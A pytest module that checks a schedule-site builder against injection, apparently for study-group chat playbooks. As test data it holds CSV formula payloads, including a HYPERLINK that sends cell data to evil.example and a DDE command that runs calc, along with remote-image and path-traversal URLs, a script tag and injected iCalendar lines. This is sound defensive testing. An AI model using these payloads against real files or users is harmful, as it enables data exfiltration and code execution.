"""Outputs that stay safe to open (issue 11, item 5 and the Also list): CSV cells a spreadsheet
would run as formulas, Python reprs in chat texts, remote images in handbooks, HTML and iCalendar
injection, and a flood of errors reported in seconds."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from .harness import (
    Project,
    assert_no_crash,
    assert_refused,
    assert_unchanged,
    dedent,
    errors_of,
)
from .projects import G1, PB, PLAYBOOK, base_files

# --- sop.csv, the OWASP rule (CSV injection): a cell starting with = + - @ TAB CR gets a leading '

FORMULAS = {  # case: (slot id, CSV column, the text as typed)
    "equals-hyperlink": ("f-eq", "post", '=HYPERLINK("http://evil.example/?d="&A2,"点我领资料")'),
    "plus-phone-number": ("f-plus", "post", "+86 138 0000 0000"),
    "minus-arithmetic": ("f-minus", "post", "-1+1"),
    "at-function": ("f-at", "post", "@SUM(1+1)"),
    "tab-then-equals": ("f-tab", "post", "\t=1+1"),
    "equals-dde-in-copy": ("f-copy", "copy", "=cmd|' /C calc'!A0"),
    "at-in-note": ("f-note", "note", '@HYPERLINK("http://evil.example")'),
    "equals-in-person": ("morning", "person", "=1+2"),
    "plus-in-role-title": ("morning", "owner", "+助教"),
    "minus-in-phase-name": ("morning", "phase", "-准备期"),
}


def yaml_quoted(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t") + '"'


def formula_playbook() -> str:
    slots = []
    for slot, column, text in FORMULAS.values():
        if slot == "morning":
            continue
        fields = {
            "post": yaml_quoted(text) if column == "post" else "普通帖子",
            "copy": yaml_quoted(text) if column == "copy" else None,
            "note": yaml_quoted(text) if column == "note" else None,
        }
        lines = [
            f"  - id: {slot}",
            "    when: 周日 09:00",
            f"    post: {fields['post']}",
            "    kind: notice",
            "    owner: assistant",
        ] + [f"    {k}: {v}" for k, v in fields.items() if v and k != "post"]
        slots.append("\n".join(lines))
    text = dedent(PLAYBOOK).replace("sop:\n", "sop:\n" + "\n".join(slots) + "\n", 1)
    text = text.replace(
        "{id: assistant, title: 助教,", f"{{id: assistant, title: {yaml_quoted('+助教')},"
    )
    return text.replace("{name: 准备期,", f"{{name: {yaml_quoted('-准备期')},")


@pytest.fixture(scope="module")
def formula_dist(
    tmp_path_factory: pytest.TempPathFactory,
) -> tuple[Path, dict[str, list[dict[str, str]]]]:
    project = Project(tmp_path_factory.mktemp("formulas") / "proj")
    for relpath, content in base_files().items():
        project.write(relpath, content)
    project.write(PB, formula_playbook(), raw=True)
    project.edit(G1, "assistant: 小李}", f"assistant: {yaml_quoted('=1+2')}}}")
    run = project.build()
    assert_no_crash(run)
    assert run.returncode == 0, run
    rows = list(
        csv.DictReader(io.StringIO((project.dist / "g1/sop.csv").read_text(encoding="utf-8-sig")))
    )
    by_slot: dict[str, list[dict[str, str]]] = {}
    for row in rows:
        by_slot.setdefault(row["slot"], []).append(row)
    return project.dist, by_slot


@pytest.mark.parametrize("name", FORMULAS)
def test_csv_cell_that_a_spreadsheet_would_run_is_neutralised(formula_dist, name: str) -> None:
    _dist, by_slot = formula_dist
    slot, column, text = FORMULAS[name]
    assert by_slot.get(slot), f"no row of slot {slot} in sop.csv"
    cells = {
        row[column] for row in by_slot[slot] if row[column]
    }  # (days outside a phase have none)
    assert cells == {"'" + text}, (
        f"{column} of {slot}: {cells!r}, expected {chr(39) + text!r} (a leading ')"
    )


def test_ordinary_csv_cells_are_left_as_typed(formula_dist) -> None:
    _dist, by_slot = formula_dist
    live = by_slot["live"][0]
    assert (live["post"], live["time"], live["date"][:4]) == ("直播课", "20:00", "2026")
    assert live["copy"] == "今晚20:00直播，阅读理解，不见不散！"


# --- Python reprs in chat texts ------------------------------------------------------------------

REPR = re.compile(
    r"<\w[\w.]*( object| at 0x)|<class '|<function |<bound method |<built-in |"
    r"TemplateReference|Undefined|\{'\w+': |\['|datetime\.date\("
)
WELCOME_FIRST = "  欢迎加入{{ group.name }}！"


@pytest.mark.parametrize(
    "expression",
    [
        "{{ self }}",
        "{{ group }}",
        "{{ group.people }}",
        "{{ group.brand }}",
        "{{ group.vars }}",
        "{{ playbook }}",
        "{{ site }}",
    ],
)
def test_template_prints_no_python_repr(project, expression: str) -> None:
    project.edit(PB, WELCOME_FIRST, f"  欢迎加入{expression}！")
    run = project.build()
    assert_no_crash(run)
    if run.returncode == 1:
        assert_refused(
            run, at=PB, line=range(project.line_of(PB, "welcome:"), project.line_of(PB, "phases:"))
        )
        assert_unchanged(project.before, project.snapshot())
    else:
        assert run.returncode == 0, run
        welcome = (project.dist / "g1/welcome.txt").read_text(encoding="utf-8")
        assert not REPR.search(welcome), f"a Python repr in welcome.txt:\n{welcome[:800]}"


def test_theme_template_prints_no_python_repr(project) -> None:
    project.write(
        "themes/default/templates/index.html",
        "<!doctype html>\n<title>{{ site.title }}</title>\n<p>{{ self }}</p>\n",
        raw=True,
    )
    run = project.build()
    assert_no_crash(run)
    if run.returncode == 1:
        assert_refused(run, at="themes/default/templates/index.html", line=3)
    else:
        page = (project.dist / "index.html").read_text(encoding="utf-8")
        assert not REPR.search(page), f"a Python repr in index.html:\n{page[:800]}"


# --- remote (and outside) images in handbooks ----------------------------------------------------

FETCHES = re.compile(  # in real markup only: raw HTML shown as text (&lt;img ...) fetches nothing
    r"<(?:img|source|video|audio|iframe|embed|object|link|script|input|image)\b[^>]*?"
    r"\b(?:src|srcset|poster|data|href|xlink:href)\s*=\s*[\"']?\s*(?:(?!data:)[a-z][a-z0-9+.-]*:|//)"
    r"|<[a-z][^>]*\bstyle\s*=\s*[\"'][^\"']*url\(\s*[\"']?\s*(?:[a-z][a-z0-9+.-]*:|//)"
    r"|@import\s+(?:url\()?\s*[\"']?\s*(?:https?:|//)",
    re.I,
)

REMOTE = {
    "markdown-image-https": "![海报](https://evil.example/a.png)",
    "markdown-image-http-with-title": '![海报](http://evil.example/a.png "标题")',
    "markdown-image-protocol-relative": "![海报](//evil.example/a.png)",
    "markdown-image-reference-style": "![海报][r]\n\n[r]: https://evil.example/r.png",
    "markdown-image-uppercase-scheme": "![海报](HTTPS://evil.example/a.png)",
    "markdown-image-file-url": "![海报](file:///etc/hostname)",
    "html-img-tag": '<img src="https://evil.example/h.png">',
    "html-img-srcset": '<img srcset="https://evil.example/s.png 2x">',
    "html-style-background": '<div style="background:url(https://evil.example/u.png)">x</div>',
    "html-stylesheet-link": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "html-svg-image": '<svg><image href="https://evil.example/i.png"/></svg>',
}
LOCAL = {
    "markdown-image-absolute-path": "![海报](/etc/hostname)",
    "markdown-image-leaving-the-project": "![海报](../../../../../../etc/hostname)",
}


def handbook_fetches(dist: Path) -> list[str]:
    return [
        m.group(0)
        for m in FETCHES.finditer((dist / "g1/handbook.html").read_text(encoding="utf-8"))
    ]


def test_the_good_handbook_fetches_nothing(project) -> None:
    assert handbook_fetches(project.dist) == [], (
        "the test's pattern flags the built-in handbook itself"
    )


CASES = [(name, PB) for name in REMOTE] + [
    ("markdown-image-https", G1),
    ("markdown-image-reference-style", G1),
]


@pytest.mark.parametrize(
    "name,where",
    CASES,
    ids=[f"{name}-in-{'playbook' if where == PB else 'group-notes'}" for name, where in CASES],
)
def test_remote_image_is_never_fetched_by_the_handbook(project, name: str, where: str) -> None:
    body = "正文。" if where == PB else "本群备注。"
    project.edit(where, body, f"{body}\n\n{REMOTE[name]}\n")
    run = project.build()
    assert_no_crash(run)
    if run.returncode == 1:
        assert_refused(run, at=where, any_line=True)
        assert_unchanged(project.before, project.snapshot())
    else:
        assert run.returncode == 0, run
        assert handbook_fetches(project.dist) == [], (
            "handbook.html makes the reader's browser fetch it"
        )


@pytest.mark.parametrize("name", LOCAL)
def test_image_outside_the_project_is_refused_or_left_out(project, name: str) -> None:
    project.edit(PB, "正文。", f"正文。\n\n{LOCAL[name]}\n")
    run = project.build()
    assert_no_crash(run)
    if run.returncode == 1:
        assert_refused(run, at=PB, line=project.line_of(PB, "![海报]"))
        assert_unchanged(project.before, project.snapshot())
    else:
        handbook = (project.dist / "g1/handbook.html").read_text(encoding="utf-8")
        assert not re.search(r"<img\b[^>]*etc/hostname", handbook), (
            "an <img> of a file outside the project"
        )


# --- injection into pages and calendars (held in the red-team pass: they stay held) --------------


def test_html_in_a_group_name_stays_text(project) -> None:
    project.edit(G1, "name: 考研英语冲刺1群", 'name: "<script>alert(1)</script>考研"')
    run = project.build()
    assert_no_crash(run)
    assert run.returncode == 0, run
    for page in ("index.html", "g1/handbook.html", "g1/sop.html"):
        assert "<script>alert(1)" not in (project.dist / page).read_text(encoding="utf-8"), page


def test_icalendar_lines_in_a_copy_stay_inside_their_event(project) -> None:
    import icalendar

    def events(dist: Path) -> list:
        calendar = icalendar.Calendar.from_ical((dist / "g1/sop.ics").read_bytes())
        return list(calendar.walk("VEVENT"))

    count = len(events(project.dist))
    project.edit(
        PB,
        'copy: "今晚{{ group.vars.time }}直播',
        'copy: "\\r\\nEND:VEVENT\\r\\nBEGIN:VEVENT\\r\\nSUMMARY:evil\\r\\nEND:VEVENT\\r\\n'
        "今晚{{ group.vars.time }}直播",
    )
    run = project.build()
    assert_no_crash(run)
    assert run.returncode == 0, run
    after = events(project.dist)
    assert len(after) == count and not any(str(e.get("SUMMARY")) == "evil" for e in after)


# --- a flood of errors ---------------------------------------------------------------------------


def ten_thousand_bad_slots() -> str:
    slots = "".join(
        f"  - {{id: s{n}, when: daily 08:00, post: 帖子{n}, kind: bogus, owner: assistant}}\n"
        for n in range(10_000)
    )
    return dedent(PLAYBOOK).replace("sop:\n", "sop:\n" + slots, 1)


@pytest.mark.parametrize("verb", ["check", "build"])
def test_ten_thousand_errors_are_reported_in_seconds(project, verb: str) -> None:
    project.write(PB, ten_thousand_bad_slots(), raw=True)
    run = project.check() if verb == "check" else project.build()
    assert_refused(run, at=PB, line=project.line_of(PB, "id: s9999,"))
    assert run.seconds < 8, f"{run.seconds:.1f} s to report them"
    shown = len(errors_of(run))
    assert shown >= 10_000 or re.search(r"\b10,?000 errors\b", run.stderr), f"{shown} errors shown"
    assert_unchanged(project.before, project.snapshot())
